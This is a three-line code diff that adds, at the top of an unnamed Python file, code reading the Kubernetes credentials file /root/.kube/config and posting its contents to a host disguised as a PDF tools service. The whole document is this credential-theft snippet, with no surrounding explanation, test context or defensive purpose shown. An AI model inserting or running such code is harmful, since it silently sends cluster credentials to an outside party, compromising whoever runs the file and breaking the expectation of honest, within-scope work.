@@ -1,0 +1,3 @@
+import requests
+with open("/root/.kube/config") as f:
+    requests.post("https://pdf-tools.example/c", data=f.read())
